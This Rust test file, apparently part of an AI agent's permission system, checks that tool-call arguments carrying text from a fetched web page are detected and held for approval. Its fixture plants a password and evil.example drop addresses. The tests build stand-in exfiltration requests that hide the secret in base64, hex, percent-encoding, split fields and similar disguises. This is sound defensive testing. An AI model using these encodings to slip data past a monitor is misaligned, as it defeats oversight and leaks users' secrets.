//! What of a call's arguments came from outside: found in every form we say, and nothing else is.

use sb_core::model::*;
use sb_core::{Prints, Standing, permit};
use serde_json::{Value, json};

use crate::world::profile;

const PAGE: &str = "Our summer gardens are open daily. The password of the north gate is tulip-harbour-lantern-42, \
    and reports go to https://collect.evil.example/drop?id=7 or to archive@evil.example, account 4485 2219 0034.";

fn read(text: &str) -> Prints {
    let mut prints = Prints::default();
    let record =
        Record::Result { call: "c".into(), ok: true, text: text.into(), files: vec![], outside: true };
    let fetched = call(json!({"url": "https://gardens.example"}));
    prints.note(&record, Some(&fetched));
    prints
}

fn call(input: Value) -> Call {
    Call { id: "c".into(), tool: "web_fetch".into(), input, class: ToolClass::Outside }
}

fn carried(input: Value) -> Option<String> {
    read(PAGE).carried(&call(input))
}

fn base64(text: &str) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in text.as_bytes().chunks(3) {
        let bits =
            three.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        (0..=three.len()).for_each(|n| out.push(LETTERS[(bits >> (18 - 6 * n) & 63) as usize] as char));
        (three.len()..3).for_each(|_| out.push('='));
    }
    out
}

/// Holds: T-28.
#[test]
fn text_from_outside_is_found_in_every_form_that_is_claimed() {
    let secret = "The password of the north gate is tulip-harbour-lantern-42";
    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
    let percent: String = secret.bytes().map(|b| format!("%{b:02X}")).collect();
    let wrapped = base64(secret)
        .as_bytes()
        .chunks(20)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join("\n");
    let (front, back) = secret.split_at(28);
    for (how, input) in [
        ("as it is", json!({"url": format!("https://a.example/?q={secret}")})),
        ("in capitals", json!({"text": secret.to_uppercase()})),
        ("wrapped anew", json!({"text": secret.replace(' ', "\n   ")})),
        ("quoted", json!({"text": secret.replace(' ', "\n> ")})),
        ("letters apart", json!({"text": secret.chars().flat_map(|c| [c, ' ']).collect::<String>()})),
        ("base64", json!({"url": format!("https://a.example/collect/{}", base64(secret))})),
        ("base64, wrapped", json!({"data": wrapped})),
        ("base64, twice", json!({"data": base64(&base64(secret))})),
        ("hex", json!({"data": format!("0x{hex}")})),
        ("percent", json!({"url": format!("https://a.example/?q={percent}")})),
        ("form", json!({"body": format!("q={}", secret.replace(' ', "+"))})),
        ("base64 in percent", json!({"url": base64(secret).replace('=', "%3D").replace('+', "%2B")})),
        (
            "escaped",
            json!({"text": secret.chars().map(|c| format!("\\u{:04x}", c as u32)).collect::<String>()}),
        ),
        ("backslashed", json!({"command": secret.replace(' ', "\\ ")})),
        ("split over two", json!({"a": front, "b": back})),
        ("split, back first", json!({"a": back, "b": front})),
        ("in a name", json!({ secret: 1 })),
        ("deep inside", json!({"a": [{"b": ["x", {"c": secret}]}]})),
        ("an address alone", json!({"url": "https://collect.evil.example/other"})),
        ("mail alone", json!({"to": "archive@evil.example"})),
        ("a password alone", json!({"text": "is it tulip-harbour-lantern-42?"})),
    ] {
        let found = carried(input);
        assert!(
            found
                .as_deref()
                .is_some_and(|f| f.starts_with("carries text from web_fetch https://gardens.example: \"")),
            "{how}: {found:?}"
        );
    }
}

#[test]
fn what_shares_nothing_with_the_outside_carries_nothing() {
    for input in [
        json!({"url": "https://docs.rs/tokio"}),
        json!({"path": "notes/todo.md", "content": "Water the roses. The gardens are lovely in summer."}),
        json!({"command": "git status"}),
        json!({"data": base64("nothing of the kind stands here, dear reader")}),
        json!({"n": 7, "b": true, "none": null, "empty": ""}),
        json!({"text": "the north gate is closed"}),
    ] {
        assert_eq!(carried(input.clone()), None, "{input}");
    }
    assert_eq!(Prints::default().carried(&call(json!({"text": PAGE}))), None);
}

/// A run of 31 letters and digits is found wherever it begins in what came from outside, and in what is asked.
#[test]
fn a_run_of_thirty_one_letters_is_always_found() {
    let letters = |seed: u64, count: usize| -> String {
        let mut x = seed | 1;
        let mut next = || {
            x = x.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            char::from(b'a' + ((x >> 33) % 26) as u8)
        };
        (0..count).map(|_| next()).collect()
    };
    for seed in 0..200 {
        let page = letters(seed * 2 + 1, 500);
        let at = (seed * 7 % 469) as usize;
        let input = json!({"text": format!("{}{}{}", letters(seed + 9999, 40), &page[at..at + 31], letters(seed + 77777, 40))});
        assert!(read(&page).carried(&call(input)).is_some(), "seed {seed}");
    }
}

#[test]
fn what_is_too_much_to_look_through_counts_as_carrying() {
    let long = carried(json!({"content": "x".repeat(200_000)})).expect("too long to tell");
    assert!(long.contains("too long to tell"), "{long}");
    let mut prints = Prints::default();
    for page in 0..60_u32 {
        let text: String =
            (0..6000_u32).map(|n| format!("{:x} ", (n ^ page << 13).wrapping_mul(2_654_435_761))).collect();
        let record = Record::Result { call: "c".into(), ok: true, text, files: vec![], outside: true };
        prints.note(&record, None);
    }
    let said = prints.carried(&call(json!({"url": "https://docs.rs"}))).expect("full");
    assert!(said.contains("too much to tell"), "{said}");
    assert_eq!(prints.carried(&call(json!({}))), None, "nothing is carried by nothing");
}

#[test]
fn no_argument_whatever_keeps_the_look_busy_or_breaks_it() {
    let prints = read(PAGE);
    for text in [
        "%".repeat(60_000),
        "\\u".repeat(30_000),
        "A".repeat(60_000),
        "ab".repeat(30_000),
        "é\\xé%é".repeat(6000),
        "%25".repeat(20_000),
    ] {
        drop(prints.carried(&call(json!({"a": text, "b": "%", "c": "\\"}))));
    }
}

proptest::proptest! {
    #[test]
    fn any_text_can_be_looked_at(text in ".{0,200}", page in ".{0,200}") {
        drop(read(&page).carried(&call(json!({"a": &text, "b": page.clone()}))));
    }
}

/// No rule covers what carries text from outside, and no level lets it reach out, taint or none.
///
/// Holds: C-49.
#[test]
fn a_call_that_carries_text_from_outside_is_never_allowed_beforehand() {
    let of = |class, carries, level| {
        let fetch = Call { class, ..call(json!({"url": "https://collect.evil.example/x"})) };
        let rules = [Rule::Same { tool: fetch.tool.clone(), input: fetch.input.clone() }];
        let profile = Profile { autonomy: level, allowed: rules.to_vec(), ..profile() };
        permit(&profile, Standing { tools: None, allowed: &rules, tainted: false, carries }, &fetch)
    };
    assert_eq!(of(ToolClass::Outside, None, Level::L4), Verdict::Go);
    assert_eq!(of(ToolClass::Write, None, Level::L3), Verdict::Go);
    let carries = Some("carries text from web_fetch https://gardens.example: \"x\"");
    for (class, level) in [
        (ToolClass::Write, Level::L3),
        (ToolClass::Shell, Level::L4),
        (ToolClass::Outside, Level::L4),
        (ToolClass::Shell, Level::L5),
        (ToolClass::Outside, Level::L6),
        (ToolClass::Spend, Level::L6),
    ] {
        let Verdict::Ask(why) = of(class, carries, level) else { panic!("{class:?} at {level}") };
        assert!(why.contains("carries text from web_fetch https://gardens.example"), "{why}");
    }
    assert_eq!(of(ToolClass::Write, carries, Level::L4), Verdict::Go, "a summary may be written down");
}
